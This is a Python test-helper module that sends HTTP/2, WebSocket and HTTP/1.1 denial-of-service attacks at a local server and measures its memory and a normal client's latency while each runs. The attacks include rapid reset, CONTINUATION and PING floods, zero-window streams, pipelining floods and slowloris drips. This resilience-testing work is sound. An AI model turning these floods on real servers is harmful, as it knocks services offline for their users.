"""HTTP/2 attacks over h2c, frames written by hand, and a well-behaved client to measure while one runs: shared
by Tests/Python/test_http2_abuse.py (against Faultline, with assertions) and scripts/h2-abuse-compare.py (the same
attacks against Faultline and nginx, side by side). Each attack takes a port and returns what the server sent back:
`frames` and the first GOAWAY (`goaway`: last stream id, error name), how many writes went in (`sent`).

Also the WebSocket attacks of Tests/Python/test_ws_abuse.py (tiny frames, a message that never ends, pings never
read), HTTP/1.1 pipelining floods (Tests/Python/test_abuse.py, and the compare script's HTTP/1.1 rows) and the
drips: `Drip` holds many connections that send a little and then a byte at a time (Tests/Python/test_abuse.py's
slowloris, the compare script's slowloris and dripped body, and Tests/Python/tls_attacks.py's half-open and dripped
handshakes)."""

import json
import re
import selectors
import socket
import statistics
import subprocess
import sys
import threading
import time

from test_http2 import PREFACE, ERROR_CODES, frames

ROUTES = {"name": "abuse-h2", "routes": [
    {"id": "ok", "match": {"path": "/ok"}, "responses": [{"text": "still here"}]},
    {"id": "slow", "match": {"path": "/slow"}, "responses": [{"delayMs": 60000, "text": "late"}]},
    # 64 KiB of text: one response per pipelined request, for the HTTP/1.1 floods (nginx serves the same file).
    {"id": "page64", "match": {"path": "/page64"}, "responses": [{"text": "p" * 65536}]},
    {"id": "tiny", "match": {"path": "/tiny"}, "responses": [{"text": "tiny"}]},
    # A POST whose body is dripped (the compare script's row; nginx reads the body there with echo_read_request_body).
    {"id": "upload", "match": {"path": "/upload"}, "responses": [{"text": "still here"}]},
    {"id": "echo", "match": {"path": "/echo"}, "responses": [{"websocket": {"script": [{"echo": True}]}}]},
    {"id": "quiet", "match": {"path": "/quiet"}, "responses": [{"websocket": {"script": []}}]},
], "resources": [{"id": "big", "path": "/big", "generated": {"size": "64MiB"}}]}

ATTACK_S = 2.0


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(**values):
    ids = {"INITIAL_WINDOW_SIZE": 0x4, "MAX_FRAME_SIZE": 0x5}
    return frame(0x4, 0, 0, b"".join(ids[k].to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in values.items()))


def get_block(path):
    """HPACK: :method GET, :scheme http, :path literal, :authority literal "x"."""
    return bytes([0x82, 0x86, 0x44, len(path)]) + path + bytes([0x41, 0x01]) + b"x"


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as status:
        return int(re.search(r"VmRSS:\s+(\d+)", status.read()).group(1)) / 1024


GOOD_CLIENT = r"""
import json, socket, sys, threading, time
port, latencies, errors, done = int(sys.argv[1]), [], [0], threading.Event()
threading.Thread(target=lambda: (sys.stdin.readline(), done.set()), daemon=True).start()
sock = None
while not done.is_set():
    started = time.monotonic()
    try:
        if sock is None:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        sock.sendall(b"GET /ok HTTP/1.1\r\nHost: x\r\n\r\n")
        received = b""
        while not received.endswith(b"still here"):
            chunk = sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed")
            received += chunk
        latencies.append((time.monotonic() - started) * 1000)
        if b"\r\nconnection: close" in received.lower():  # nginx's 1,000th on a connection (keepalive_requests)
            sock.close()
            sock = None
    except OSError:
        errors[0] += 1
        sock = None
    time.sleep(0.01)
print(json.dumps({"latencies": latencies, "errors": errors[0]}))
"""


class GoodClient:
    """HTTP/1.1 keep-alive GET /ok every 10 ms until stopped, in a process of its own (in this one, the attack's
    frame building would hold the GIL and count as the server's latency); latencies in ms, errors counted. A
    response with `Connection: close` is followed by a new connection, as a well-behaved client does."""

    def __init__(self, port):
        self.process = subprocess.Popen([sys.executable, "-c", GOOD_CLIENT, str(port)], stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, text=True)
        self.latencies, self.errors = [], 0

    def stop(self):
        out, _ = self.process.communicate("stop\n", timeout=30)
        result = json.loads(out)
        self.latencies, self.errors = result["latencies"], result["errors"]

    def p99(self):
        ordered = sorted(self.latencies)
        return ordered[max(0, int(len(ordered) * 0.99) - 1)]


class Attack:
    """One attacking connection: sends with `send(sock)` for up to ATTACK_S while a reader thread drains (or,
    with read=False, nothing is ever read). Collects the frames the server sent."""

    def __init__(self, port, read=True, sock=None, early=b""):
        self.sock = sock or socket.create_connection(("127.0.0.1", port), timeout=5)
        self.read, self.chunks, self.closed, self.stop = read, [early] if early else [], False, threading.Event()
        self.reader = threading.Thread(target=self._drain, daemon=True)
        if read:
            self.reader.start()

    def start_reading(self):
        """Starts the reader of an attack made with read=False."""
        if not self.read:
            self.read = True
            self.reader.start()

    def received(self):
        return b"".join(self.chunks)

    def wait_closed(self, timeout):
        """Waits up to `timeout` s for the server to end the connection (the reader sees FIN or RST)."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            time.sleep(0.02)
        return self.closed

    def _drain(self):
        self.sock.settimeout(0.1)
        while not self.stop.is_set():
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.chunks.append(chunk)

    def run(self, send):
        deadline = time.monotonic() + ATTACK_S
        sent = 0
        try:
            while time.monotonic() < deadline:
                if send(self.sock) is False:
                    break
                sent += 1
        except OSError:
            self.closed = True
        return sent

    def finish(self, wait_close=True):
        """Waits up to 2 s for the server to close (a reading attack that it ends), then closes; the frames
        received."""
        if self.read:
            deadline = time.monotonic() + (2 if wait_close else 0.2)
            while not self.closed and time.monotonic() < deadline:
                time.sleep(0.02)
            self.stop.set()
            self.reader.join()
        self.sock.close()
        return frames(b"".join(self.chunks))


def finish_bytes(connection):
    """Stops the reader, closes; the bytes received."""
    connection.stop.set()
    if connection.read:
        connection.reader.join()
    connection.sock.close()
    return connection.received()


def goaway_of(received):
    goaways = [payload for kind, _, _, payload in received if kind == 0x7]
    if not goaways:
        return None
    return int.from_bytes(goaways[0][:4], "big") & 0x7FFFFFFF, ERROR_CODES.get(int.from_bytes(goaways[0][4:8], "big"))


def rapid_reset(port, connections=10, path=b"/slow"):
    """HEADERS then RST_STREAM CANCEL, 100 pairs per write, on `connections` connections one after another."""
    goaways = []
    for _ in range(connections):
        connection = Attack(port)
        connection.sock.sendall(PREFACE + settings())
        stream = [1]

        def burst(sock):
            batch = b""
            for _ in range(100):
                batch += frame(0x1, 0x5, stream[0], get_block(path)) + frame(0x3, 0, stream[0], (8).to_bytes(4, "big"))
                stream[0] += 2
            sock.sendall(batch)

        connection.run(burst)
        goaways.append(goaway_of(connection.finish()))
    return {"goaways": goaways, "goaway": goaways[0]}


def continuation_flood(port):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    connection = Attack(port)
    connection.sock.sendall(PREFACE + settings() + frame(0x1, 0x1, 1, get_block(b"/ok")))
    literal = b"\x00\x05x-pad\x05vvvvv"
    sent = connection.run(lambda sock: sock.sendall(frame(0x9, 0, 1, literal * 100) * 100))
    received = connection.finish()
    return {"sent": sent, "frames": received, "goaway": goaway_of(received)}


def control_flood(port, kind, read):
    """PINGs or SETTINGS, 1,000 a write, read or never read."""
    one = frame(0x6, 0, 0, b"12345678") if kind == "ping" else frame(0x4, 0, 0, b"\x00\x03\x00\x00\x00\x64")
    connection = Attack(port, read=read)
    connection.sock.sendall(PREFACE + settings())
    sent = connection.run(lambda sock: sock.sendall(one * 1000))
    received = connection.finish()
    return {"sent": sent, "frames": received, "goaway": goaway_of(received), "closed": connection.closed}


def cheap_flood(port, flood):
    """Valid frames that ask for no work, 1,000 a write: empty DATA on an open upload, WINDOW_UPDATE by 1 on the
    connection, PRIORITY for idle streams."""
    post = bytes([0x83, 0x86, 0x44, 0x03]) + b"/ok" + bytes([0x41, 0x01]) + b"x"
    streams = [1]

    def send(sock):
        if flood == "empty-data":
            sock.sendall(frame(0x0, 0, 1) * 1000)
        elif flood == "window-update":
            sock.sendall(frame(0x8, 0, 0, (1).to_bytes(4, "big")) * 1000)
        else:
            batch = b""
            for _ in range(1000):
                batch += frame(0x2, 0, streams[0], (streams[0] + 2).to_bytes(4, "big") + b"\x10")
                streams[0] += 2
            sock.sendall(batch)

    connection = Attack(port)
    connection.sock.sendall(PREFACE + settings() + (frame(0x1, 0x4, 1, post) if flood == "empty-data" else b""))
    sent = connection.run(send)
    received = connection.finish(wait_close=False)
    return {"sent": sent, "frames": received, "goaway": goaway_of(received), "closed": connection.closed}


def never_reads(port, path=b"/big", streams=100):
    """A window of 2^31 − 1 and `streams` downloads, never read."""
    connection = Attack(port, read=False)
    connection.sock.sendall(PREFACE + settings(INITIAL_WINDOW_SIZE=2**31 - 1)
                            + frame(0x8, 0, 0, (2**31 - 1 - 65535).to_bytes(4, "big"))
                            + b"".join(frame(0x1, 0x5, 2 * i + 1, get_block(path)) for i in range(streams)))
    time.sleep(ATTACK_S)
    connection.finish()
    return {"goaway": None}


def zero_window(port, path=b"/big", streams=100):
    """SETTINGS_INITIAL_WINDOW_SIZE 0 and `streams` downloads: no DATA can go."""
    connection = Attack(port)
    connection.sock.sendall(PREFACE + settings(INITIAL_WINDOW_SIZE=0)
                            + b"".join(frame(0x1, 0x5, 2 * i + 1, get_block(path)) for i in range(streams)))
    time.sleep(ATTACK_S)
    received = connection.finish(wait_close=False)
    return {"frames": received, "goaway": goaway_of(received)}


# -- WebSocket (RFC 6455), on the routes /echo (echoes every message) and /quiet (a script that says nothing) -------

WS_KEY = "dGhlIHNhbXBsZSBub25jZQ=="  # RFC 6455 §1.3's sample key


def ws_open(port, path):
    """An upgraded connection: (socket, the bytes that came after the 101)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                 f"Sec-WebSocket-Key: {WS_KEY}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    received = b""
    while b"\r\n\r\n" not in received:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError(f"closed before the 101: {received!r}")
        received += chunk
    head, _, rest = received.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 101 "), head
    return sock, rest


def ws_frame(opcode, payload=b"", fin=True, mask=b"\x37\xfa\x21\x3d"):
    """A masked client frame."""
    length = len(payload)
    head = bytes([(0x80 if fin else 0) | opcode])
    if length < 126:
        head += bytes([0x80 | length])
    elif length < 1 << 16:
        head += bytes([0x80 | 126]) + length.to_bytes(2, "big")
    else:
        head += bytes([0x80 | 127]) + length.to_bytes(8, "big")
    return head + mask + bytes(byte ^ mask[i % 4] for i, byte in enumerate(payload))


def ws_frames(data):
    """The server's frames in `data`: [(fin, opcode, payload)] and the bytes after the last whole one."""
    out, at = [], 0
    while len(data) - at >= 2:
        fin, opcode, length, start = data[at] >> 7, data[at] & 0x0F, data[at + 1] & 0x7F, at + 2
        if length == 126:
            length, start = int.from_bytes(data[at + 2:at + 4], "big"), at + 4
        elif length == 127:
            length, start = int.from_bytes(data[at + 2:at + 10], "big"), at + 10
        if len(data) < start + length:
            break
        out.append((bool(fin), opcode, data[start:start + length]))
        at = start + length
    return out, data[at:]


def ws_close_of(received_frames):
    """The first close frame's (code, reason), or None."""
    for _, opcode, payload in received_frames:
        if opcode == 0x8:
            return (int.from_bytes(payload[:2], "big") if len(payload) >= 2 else None), payload[2:].decode()
    return None


WS_CLOSE_1000 = ws_frame(0x8, (1000).to_bytes(2, "big") + b"done")
WS_WAIT_S = 20.0  # for the server to work through what a flood left in its socket (debug build, shared cores)


def ws_tiny_flood(port, path, count=100_000):
    """`count` one-byte masked text frames, 10,000 a write, as fast as the socket takes them, while a reader drains
    what comes back; then a close 1000, and the server's close and FIN are waited for (it reads in order, so they
    come once it has handled every frame)."""
    sock, early = ws_open(port, path)
    connection = Attack(port, sock=sock, early=early)
    batch, left = ws_frame(0x1, b"x") * 10_000, [count // 10_000]
    started = time.monotonic()

    def send(sock):
        if not left[0]:
            return False
        sock.sendall(batch)
        left[0] -= 1

    while left[0] and not connection.closed and time.monotonic() - started < WS_WAIT_S:
        connection.run(send)
    sock.sendall(WS_CLOSE_1000)
    connection.wait_closed(WS_WAIT_S)
    received, _ = ws_frames(finish_bytes(connection))
    return {"sent": count - left[0] * 10_000, "frames": received, "close": ws_close_of(received),
            "closed": connection.closed, "seconds": time.monotonic() - started}


def ws_endless_fragments(port, path="/quiet", size=64, limit=1 << 20):
    """A text frame without FIN, then `size`-byte continuation frames without FIN, in 64 KiB writes, until more than
    `limit` bytes (the session's maxMessageBytes) have gone: the message never ends. It then stops sending (so that
    the server, having read everything, closes with FIN rather than RST, and the close frame is not lost) and
    waits for the server's answer."""
    sock, early = ws_open(port, path)
    connection = Attack(port, sock=sock, early=early)
    per_write = max(1, 65536 // (size + 6))
    batch = ws_frame(0x0, b"y" * size, fin=False) * per_write
    sock.sendall(ws_frame(0x1, b"x" * size, fin=False))
    sent, started = [size], time.monotonic()

    def send(sock):
        if sent[0] > limit + size or connection.closed:
            return False
        sock.sendall(batch)
        sent[0] += size * per_write

    while sent[0] <= limit + size and not connection.closed and time.monotonic() - started < WS_WAIT_S:
        connection.run(send)
    connection.wait_closed(WS_WAIT_S)
    received, _ = ws_frames(finish_bytes(connection))
    return {"sent": sent[0], "frames": received, "close": ws_close_of(received), "closed": connection.closed,
            "seconds": time.monotonic() - started}


def ws_ping_flood(port, path="/quiet", total=32 << 20, deadline_s=8.0):
    """Pings of 125 bytes (the most a control frame holds), 500 a write, up to `total` bytes or until the socket
    stops taking them, never reading the pongs. Then the client starts reading, sends a close 1000 and waits for
    the server's close and FIN."""
    sock, early = ws_open(port, path)
    connection = Attack(port, read=False, sock=sock, early=early)
    batch = ws_frame(0x9, b"p" * 125) * 500
    sock.settimeout(1.0)
    sent, started, stalled = 0, time.monotonic(), False
    while sent < total and time.monotonic() - started < deadline_s:
        try:
            sock.sendall(batch)
        except socket.timeout:
            stalled = True  # the server stopped reading
            break
        sent += len(batch)
    connection.start_reading()
    sock.settimeout(WS_WAIT_S)
    sock.sendall(WS_CLOSE_1000)
    connection.wait_closed(WS_WAIT_S)
    received, _ = ws_frames(finish_bytes(connection))
    return {"sent": sent, "pings": sent // len(ws_frame(0x9, b"p" * 125)), "stalled": stalled, "frames": received,
            "close": ws_close_of(received), "closed": connection.closed, "seconds": time.monotonic() - started}


# -- HTTP/1.1 pipelining ------------------------------------------------------------------------------------------


def pipelined(path):
    return b"GET " + path + b" HTTP/1.1\r\nHost: x\r\n\r\n"


def pipeline_flood(port, path=b"/page64", count=10_000, done=None):
    """`count` requests in one write, never a response read. The write completes only if the server reads them all;
    a server that stops reading once its output is full leaves it blocked (ATTACK_S at most). Then it waits for the
    server to work through what it read — `done()` true (polled for 10 s at most), or 1 s without it — and the
    socket closes (with unread responses: RST)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    data, sent = pipelined(path) * count, 0
    started = time.monotonic()
    sock.setblocking(False)
    while sent < len(data) and time.monotonic() - started < 5:
        try:
            sent += sock.send(data[sent:])
        except BlockingIOError:
            time.sleep(0.01)
            if time.monotonic() - started > ATTACK_S and sent < len(data):
                break  # the server stopped reading
    if done is None:
        time.sleep(1.0)
    else:
        deadline = time.monotonic() + 10
        while not done() and time.monotonic() < deadline:
            time.sleep(0.1)
    sock.close()
    return {"sent": sent // len(pipelined(path)), "all_sent": sent == len(data), "goaway": None}


def pipeline_outpace(port, path=b"/tiny", per_write=100, every_s=0.01, read_per_turn=4096):
    """Writes `per_write` requests every `every_s` and reads at most `read_per_turn` bytes as often, for ATTACK_S:
    requests faster than the responses are taken. Then it stops writing (a request the socket took in part is
    finished) and reads every response, which must all come, in order."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    one = pipelined(path)
    batch, pending, sent, received = one * per_write, b"", 0, b""
    sock.setblocking(False)
    started = time.monotonic()
    while time.monotonic() - started < ATTACK_S:
        try:
            pending = pending or batch
            taken = sock.send(pending)
            pending, sent = pending[taken:], sent + taken
        except BlockingIOError:
            pass
        try:
            received += sock.recv(read_per_turn)
        except BlockingIOError:
            pass
        time.sleep(every_s)
    sock.settimeout(10)
    sock.sendall(pending)  # whole requests only
    sent += len(pending)
    requests = sent // len(one)
    responses = 0
    deadline = time.monotonic() + 20
    tail = b""
    statuses = set()
    while responses < requests and time.monotonic() < deadline:
        chunk = received or sock.recv(1 << 20)
        received = b""
        if not chunk:
            break
        tail += chunk
        # Responses are Content-Length framed; count them by their status lines as they stream past.
        while True:
            end = tail.find(b"\r\n\r\n")
            if end < 0:
                break
            head = tail[:end]
            length = int(re.search(rb"(?i)content-length: *(\d+)", head).group(1))
            if len(tail) < end + 4 + length:
                break
            statuses.add(head[9:12])
            tail = tail[end + 4 + length:]
            responses += 1
    sock.close()
    return {"sent": requests, "responses": responses, "statuses": statuses, "rest": tail, "goaway": None}


# -- drips: a little at once, then a byte at a time --------------------------------------------------------------


class Drip:
    """`count` connections driven from one thread: each sends `head` at once (or, if there is none, the first byte
    of `trickle`), then one more byte of `trickle` every `pace_s`, and stops dripping once the server has sent
    anything or closed (or the trickle is used up: then it holds). It ends when every connection is closed, or
    `hold_s` after the last one opened (the attacker gives up, closing what is still open). Records, per
    connection, when its first byte went out, how many bytes went, what came back, when the first of it came
    (`answered_at`) and how the server ended it (`closed_at`: the time of its FIN, "reset", or None if it never
    did). `connect(port)` opens a connection (default: TCP to 127.0.0.1 with a `timeout` s deadline)."""

    def __init__(self, port, count, head, trickle, pace_s, hold_s, timeout=5.0):
        self.port, self.count, self.head, self.trickle = port, count, head, trickle
        self.pace_s, self.hold_s, self.timeout = pace_s, hold_s, timeout
        self.first_byte = [None] * count
        self.bytes_sent = [0] * count
        self.received = [b""] * count
        self.answered_at = [None] * count
        self.closed_at = [None] * count
        self.ended_at = None
        self.error = None
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self):
        self._thread.start()
        return self

    @property
    def running(self):
        return self._thread.is_alive()

    def join(self, timeout):
        self._thread.join(timeout)
        assert not self._thread.is_alive(), "the drip driver did not finish"
        if self.error is not None:
            raise self.error

    def run(self):
        """Runs in this thread, to the end; returns self."""
        self._run()
        if self.error is not None:
            raise self.error
        return self

    def trickled(self, index):
        return self.bytes_sent[index] - len(self.head)

    def _send(self, index, sock, data):
        try:
            sock.send(data)
            self.bytes_sent[index] += len(data)
        except OSError:  # the server reset the connection: the read below sees it, or it is marked here
            if self.closed_at[index] is None:
                self.closed_at[index] = "reset"

    def _run(self):
        selector = selectors.DefaultSelector()
        sockets = []
        try:
            next_send = []
            for index in range(self.count):
                sock = socket.create_connection(("127.0.0.1", self.port), timeout=self.timeout)
                sockets.append(sock)
                self.first_byte[index] = time.monotonic()
                if self.head:
                    sock.sendall(self.head)
                    self.bytes_sent[index] = len(self.head)
                elif self.trickle:
                    self._send(index, sock, self.trickle[:1])
                next_send.append(self.first_byte[index] + self.pace_s)
                selector.register(sock, selectors.EVENT_READ, index)
            deadline = time.monotonic() + self.hold_s
            open_count = self.count

            def dripping(index):
                return (self.closed_at[index] is None and not self.received[index]
                        and self.trickled(index) < len(self.trickle))

            while open_count and time.monotonic() < deadline:
                now = time.monotonic()
                for index, sock in enumerate(sockets):
                    # Stop dripping once the server has answered: it is closing.
                    if dripping(index) and next_send[index] <= now:
                        offset = self.trickled(index)
                        self._send(index, sock, self.trickle[offset:offset + 1])
                        next_send[index] += self.pace_s
                pending = [t for i, t in enumerate(next_send) if dripping(i)]
                wait = max(0.0, min(pending, default=now + 0.05) - time.monotonic())
                for key, _ in selector.select(timeout=min(wait, 0.05)):
                    index, sock = key.data, key.fileobj
                    try:
                        chunk = sock.recv(65536)
                    except ConnectionResetError:
                        chunk = None
                    if chunk:
                        self.received[index] += chunk
                        self.answered_at[index] = self.answered_at[index] or time.monotonic()
                        continue
                    self.closed_at[index] = time.monotonic() if chunk == b"" else "reset"
                    selector.unregister(sock)
                    sock.close()
                    open_count -= 1
        except Exception as error:  # reported by join() or run()
            self.error = error
        finally:
            self.ended_at = time.monotonic()
            selector.close()
            for sock in sockets:
                sock.close()


SLOWLORIS_HEAD = b"GET /ok HTTP/1.1\r\nHost: x\r\n"
SLOWLORIS_TRICKLE = b"X-Slow: " + b"s" * 200


def slowloris(port, count=200, pace_s=0.3, hold_s=17.0):
    """`count` connections that send the start of a head, then one more header byte every `pace_s`, never ending
    it."""
    return Drip(port, count, SLOWLORIS_HEAD, SLOWLORIS_TRICKLE, pace_s, hold_s).run()


def dripped_body(port, count=200, pace_s=0.3, hold_s=17.0, path=b"/upload"):
    """`count` POSTs whose head is whole (Content-Length 1,000,000) and whose body comes a byte every `pace_s`."""
    head = b"POST " + path + b" HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
    return Drip(port, count, head, b"x" * 1_000_000, pace_s, hold_s).run()


HTTP1_ATTACKS = {
    "HTTP/1.1: 10,000 × GET 64 KiB pipelined, never read": pipeline_flood,
    "HTTP/1.1: 10,000 × GET /tiny pipelined, never read": lambda port: pipeline_flood(port, b"/tiny"),
    "HTTP/1.1: pipelining faster than reading": pipeline_outpace,
}


ATTACKS = {
    "rapid reset (10 connections)": rapid_reset,
    "CONTINUATION flood": continuation_flood,
    "PING flood, unread": lambda port: control_flood(port, "ping", read=False),
    "SETTINGS flood, unread": lambda port: control_flood(port, "settings", read=False),
    "PING flood, read": lambda port: control_flood(port, "ping", read=True),
    "empty DATA flood": lambda port: cheap_flood(port, "empty-data"),
    "WINDOW_UPDATE flood": lambda port: cheap_flood(port, "window-update"),
    "PRIORITY flood": lambda port: cheap_flood(port, "priority"),
    "100 × 64 MiB, never read": never_reads,
    "zero window, 100 streams": zero_window,
}


def measure(attack, port, good_port, pids):
    """Runs `attack(port)` while a good client GETs /ok on `good_port` and the RSS of `pids` (summed) is sampled:
    {"result", "good": GoodClient (stopped), "rss_base", "rss_peak"} in MB."""
    good = GoodClient(good_port)
    time.sleep(0.3)
    total = lambda: sum(rss_mb(pid) for pid in pids)
    baseline, peak, sampling = total(), [0.0], threading.Event()

    def sample():
        while not sampling.is_set():
            peak[0] = max(peak[0], total())
            time.sleep(0.05)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        result = attack(port)
    finally:
        time.sleep(0.3)
        good.stop()
        sampling.set()
        sampler.join()
    return {"result": result, "good": good, "rss_base": baseline, "rss_peak": max(peak[0], baseline)}


P99_BOUND_MS = 60.0
RSS_GROWTH_BOUND_MB = 48


class MemoryUnbounded(AssertionError):
    """The server's RSS grew past the bound during the attack (a strict xfail can name this one alone)."""


class GoodClientStarved(AssertionError):
    """The good client's p99 went past the bound during the attack."""


def assert_unharmed(measured, rss_bound_mb=RSS_GROWTH_BOUND_MB):
    """The good client was served throughout the attack with no error and a p99 under P99_BOUND_MS, and the
    server's RSS grew by at most `rss_bound_mb`. Memory is checked before latency, so that a test whose only
    expected failure is latency (GoodClientStarved) still checks its memory."""
    good = measured["good"]
    print(f"good client: {describe(good)}; RSS {measured['rss_base']:.0f} → peak {measured['rss_peak']:.0f} MB")
    assert good.errors == 0
    assert len(good.latencies) >= 20, "the good client was served throughout"
    growth = measured["rss_peak"] - measured["rss_base"]
    if growth > rss_bound_mb:
        raise MemoryUnbounded(f"RSS grew {growth:.0f} MB ({measured['rss_base']:.0f} → {measured['rss_peak']:.0f} MB, "
                              f"bound {rss_bound_mb} MB)")
    if good.p99() > P99_BOUND_MS:
        raise GoodClientStarved(f"p99 {good.p99():.1f} ms during the attack (bound {P99_BOUND_MS:.0f} ms): "
                                f"{describe(good)}")


def describe(good):
    return (f"{len(good.latencies)} requests, p50 {statistics.median(good.latencies):.2f} ms, p99 {good.p99():.2f} ms, "
            f"max {max(good.latencies):.1f} ms, {good.errors} errors")
